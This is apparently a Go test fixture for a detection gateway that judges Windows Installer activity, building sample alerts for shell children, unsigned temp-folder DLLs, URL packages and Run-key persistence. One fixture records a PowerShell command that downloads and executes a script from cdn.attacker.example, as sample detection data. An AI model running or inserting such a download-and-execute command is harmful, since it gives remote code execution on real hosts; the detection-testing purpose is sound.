package finding

import (
	"strings"
	"time"

	"msigate/gateway/event"
	"msigate/gateway/install"
	"msigate/gateway/policy"
)

// Decisions that the tests tell. Hosts, users, hashes and packages are made up.

var noon = time.Date(2026, 5, 4, 12, 0, 0, 0, time.UTC)

const (
	serverGUID = "0f9d3c5e-1a2b-6900-0901-000000001200"
	childGUID  = "0f9d3c5e-1a2b-6900-0a01-000000001200"
	clientGUID = "0f9d3c5e-1a2b-6900-0701-000000001200"
)

func bundles() []policy.BundleStamp {
	return []policy.BundleStamp{
		{Name: "governance", Revision: "sha256:77aa", Serial: 0},
		{Name: "policy", Revision: "sha256:41c0", Serial: 12},
	}
}

func client() install.Process {
	return install.Process{
		Process: event.Process{
			GUID: clientGUID, PID: 4100, Image: `C:\Windows\System32\msiexec.exe`,
			CommandLine: `msiexec.exe /i "C:\Users\alice\Downloads\Invoice Viewer.msi" /qn`,
			User:        `CORP\alice`, IntegrityLevel: "Medium",
		},
		Role: install.RoleClient,
		Msiexec: &install.CommandLine{
			Verb: "install", Quiet: "none",
			Package: &install.Package{Kind: install.PackagePath, Name: `C:\Users\alice\Downloads\Invoice Viewer.msi`},
		},
		Sequence: 40,
	}
}

func server() install.Process {
	return install.Process{
		Process: event.Process{
			GUID: serverGUID, PID: 4711, Image: `C:\Windows\System32\msiexec.exe`,
			CommandLine: `C:\Windows\System32\MsiExec.exe -Embedding 5A0C1B2D3E4F5061728394A5B6C7D8E9 E Global\MSI0000`,
			User:        `NT AUTHORITY\SYSTEM`,
		},
		Role:     install.RoleCustomActionServer,
		Msiexec:  &install.CommandLine{Verb: "embedding", Suffix: `E Global\MSI0000`},
		Sequence: 41,
	}
}

// shellChild is the attack: a custom action starts PowerShell.
func shellChild() policy.Decision {
	child := event.Process{
		GUID: childGUID, PID: 5012, Image: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		CommandLine:      `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -Command "iwr https://cdn.attacker.example/a.ps1 | iex"`,
		CurrentDirectory: `C:\Windows\System32\`, User: `NT AUTHORITY\SYSTEM`, LogonID: "0x3e7", IntegrityLevel: "System",
		OriginalFileName: "PowerShell.EXE", Company: "Microsoft Corporation", Product: "Microsoft® Windows® Operating System",
		FileVersion: "10.0.26100.1", Hashes: event.Hashes{SHA256: strings.Repeat("ab", 32), Imphash: strings.Repeat("0c", 16)},
	}
	return policy.Decision{
		ID:      "7d1f0a52c3",
		Trigger: policy.Trigger{Stream: "EVENTS", Sequence: 42, Cause: policy.CauseEvent},
		Now:     noon.Add(2 * time.Second),
		Context: install.Context{
			Event: &event.Event{
				Kind: event.KindProcessStart, Shape: event.ShapeWinlogbeat, Provider: "Microsoft-Windows-Sysmon",
				Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1, RecordID: 9001, Host: "ws01.corp.example",
				Time: noon, Process: child, Parent: server().Process, Missing: []string{"process.signer"},
			},
			Process: install.Process{Process: child, Role: install.RoleDescendant, Sequence: 42},
			Parent:  server(),
			Lineage: []install.Process{server(), client()},
			Root:    client(),
			Missing: []string{"process.signer"},
		},
		Answer: policy.Answer{
			Disposition: policy.Alert,
			Severity:    policy.High,
			Signals: []policy.Signal{{
				ID: "shell_child", Severity: policy.High, Title: "Shell started by a custom action",
				Evidence: map[string]string{
					"process.image": child.Image, "process.command_line": child.CommandLine, "parent.role": "custom_action_server",
				},
			}},
			NearMisses: []policy.NearMiss{{
				Entry: "invoice-viewer", Matched: []string{"process.image"}, Failed: []string{"package.sha256", "expired"},
			}},
			Pending: []policy.Pending{},
			Missing: []string{"process.signer"},
		},
		Input:   []byte(`{"event":{"id":1,"kind":"process_start","mangled":[],"provider":"microsoft-windows-sysmon","time":1777896000000000000},"host":{"groups":[],"name":"ws01"},"lineage":[],"missing":["process.signer"],"now":1777896002000000000,"process":{"command_line":"powershell.exe -noprofile","image":"c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe"}}`),
		Bundles: bundles(),
		Took:    180 * time.Microsecond,
	}
}

// approvedChild is an ordinary install in the same tree.
func approvedChild() policy.Decision {
	d := shellChild()
	e := *d.Context.Event
	d.ID = "11aa22bb33"
	d.Trigger.Sequence = 43
	e.Time = noon.Add(time.Second)
	e.RecordID = 9002
	d.Context.Event = &e
	d.Context.Process.Process = event.Process{
		GUID: "0f9d3c5e-1a2b-6900-0b01-000000001200", PID: 5020, Image: `C:\Program Files\Contoso\Agent\setup-helper.exe`,
		CommandLine: `"C:\Program Files\Contoso\Agent\setup-helper.exe" --register`, User: `NT AUTHORITY\SYSTEM`,
		Hashes:    event.Hashes{SHA256: strings.Repeat("cd", 32)},
		Signature: event.Signature{Known: true, Signed: true, Status: "Valid", Subject: "Contoso Ltd"},
	}
	e.Process = d.Context.Process.Process
	d.Answer = policy.Answer{
		Disposition: policy.Approved, Severity: policy.Informational,
		Signals: []policy.Signal{{ID: "ordinary_child", Severity: policy.Low, Title: "Unexpected program started by Windows Installer", Evidence: map[string]string{"process.image": d.Context.Process.Image}}},
		Approval: &policy.Approval{
			Entry: "contoso-agent", Owner: "endpoint-team", Ticket: "CHG-1042",
			Matched: []string{"process.sha256", "client.deployment_tool"},
		},
		NearMisses: []policy.NearMiss{}, Pending: []policy.Pending{}, Missing: []string{},
	}
	d.Input = []byte(`{"event":{"kind":"process_start"}}`)
	return d
}

// reviewChild lacks telemetry.
func reviewChild() policy.Decision {
	d := approvedChild()
	d.ID = "55ee66ff77"
	d.Trigger.Sequence = 44
	d.Answer = policy.Answer{
		Disposition: policy.Review, Severity: policy.Medium, Signals: []policy.Signal{},
		NearMisses: []policy.NearMiss{},
		Pending:    []policy.Pending{{Fact: "process.signer", Due: noon.Add(5 * time.Second)}},
		Missing:    []string{"parent.command_line", "process.command_line"},
	}
	return d
}

func expectedChild() policy.Decision {
	d := approvedChild()
	d.ID = "99aa88bb77"
	d.Trigger.Sequence = 45
	d.Answer = policy.Answer{
		Disposition: policy.Expected, Severity: policy.Informational, Signals: []policy.Signal{},
		NearMisses: []policy.NearMiss{}, Pending: []policy.Pending{}, Missing: []string{},
	}
	d.Input = nil
	return d
}

// moduleLoad is a custom-action DLL from a temporary folder.
func moduleLoad() policy.Decision {
	d := shellChild()
	d.ID = "31c0ffee00"
	d.Context.Event = &event.Event{
		Kind: event.KindImageLoad, Shape: event.ShapeEventXML, Provider: "Microsoft-Windows-Sysmon",
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7, RecordID: 77, Host: "ws02.corp.example", Time: noon,
		Process: server().Process,
		Module: event.Module{
			Path: `C:\Users\alice\AppData\Local\Temp\MSI4F2A.tmp`, OriginalFileName: "action.dll", Company: "-",
			Hashes:    event.Hashes{SHA256: strings.Repeat("ef", 32), SHA1: strings.Repeat("12", 20), MD5: strings.Repeat("34", 16)},
			Signature: event.Signature{Known: true, Signed: false},
		},
	}
	d.Context.Process, d.Context.Parent = server(), install.Process{}
	d.Answer.Signals = []policy.Signal{{
		ID: "unsigned_module", Severity: policy.Critical, Title: "Unsigned custom-action DLL in a temporary folder",
		Evidence: map[string]string{"module.path": d.Context.Event.Module.Path},
	}}
	d.Answer.Severity = policy.Critical
	d.Answer.NearMisses = []policy.NearMiss{}
	return d
}

// installRecord is a MsiInstaller 1040 of which no process is known.
func installRecord() policy.Decision {
	d := reviewChild()
	d.ID = "1040104010"
	d.Context = install.Context{
		Event: &event.Event{
			Kind: event.KindInstall, Shape: event.ShapeNXLog, Provider: "MsiInstaller", Channel: "Application", EventID: 1040,
			RecordID: 501, Host: "ws03.corp.example", Time: noon,
			Installer: event.Installer{Package: `https://files.attacker.example/get?id=4`, ClientPID: 6000},
		},
		Package: &install.Package{Kind: install.PackageURL, Name: `https://files.attacker.example/get?id=4`},
	}
	d.Answer.Signals = []policy.Signal{{ID: "url_package", Severity: policy.Medium, Title: "Package from a URL", Evidence: map[string]string{}}}
	d.Answer.Pending = []policy.Pending{}
	return d
}

// quarantined is a record in scope that could not be decoded.
func quarantined() policy.Decision {
	return policy.Decision{
		ID: "dead00beef", Trigger: policy.Trigger{Stream: "EVENTS", Sequence: 90, Record: 2, Cause: policy.CauseEvent}, Now: noon,
		Context: install.Context{Event: &event.Event{Kind: event.KindOther, Host: "ws04.corp.example"}},
		Fault:   "quarantined: duplicate_key",
		Answer:  policy.Answer{Disposition: policy.Review, Severity: policy.High},
		Bundles: bundles(),
	}
}

// otherKinds has one Decision for each kind that is not above.
func otherKinds() []policy.Decision {
	one := func(kind event.Kind, id int, change func(*event.Event)) policy.Decision {
		d := reviewChild()
		d.ID = "kind-" + string(kind)
		e := *d.Context.Event
		e.Kind, e.EventID = kind, id
		change(&e)
		d.Context.Event = &e
		return d
	}
	return []policy.Decision{
		one(event.KindProcessEnd, 5, func(*event.Event) {}),
		one(event.KindFileCreate, 11, func(e *event.Event) { e.File.Path = `C:\Windows\Installer\MSI1.tmp` }),
		one(event.KindFileStream, 15, func(e *event.Event) {
			e.File = event.File{Path: `C:\Users\alice\Downloads\a.msi`, Stream: "Zone.Identifier", Contents: "[ZoneTransfer]\r\nZoneId=3"}
		}),
		one(event.KindFileExecutable, 29, func(e *event.Event) {
			e.File = event.File{Path: `C:\Users\Public\x.exe`, Hashes: event.Hashes{SHA256: strings.Repeat("9a", 32)}}
		}),
		one(event.KindFileDelete, 23, func(e *event.Event) { e.File.Path = `C:\Config.Msi\1.rbs` }),
		one(event.KindNetwork, 3, func(e *event.Event) {
			e.Network = event.Network{Protocol: "tcp", DestinationIP: "192.0.2.7", DestinationHost: "cdn.attacker.example", DestinationPort: 443}
		}),
		one(event.KindNetwork, 3, func(e *event.Event) { e.Network = event.Network{DestinationIP: "not an address"} }),
		one(event.KindDNS, 22, func(e *event.Event) { e.Network = event.Network{QueryName: "cdn.attacker.example"} }),
		one(event.KindRegistry, 13, func(e *event.Event) {
			e.Registry = event.Registry{Operation: "SetValue", Key: `HKLM\Software\Microsoft\Windows\CurrentVersion\Run\x`, Value: `C:\Users\Public\x.exe`}
		}),
		one(event.KindSensor, 4, func(e *event.Event) { e.Sensor.State = "Stopped" }),
		one(event.KindOther, 10, func(*event.Event) {}),
	}
}

func plain(d policy.Decision) *Masked { return (*Masker)(nil).Mask(d) }
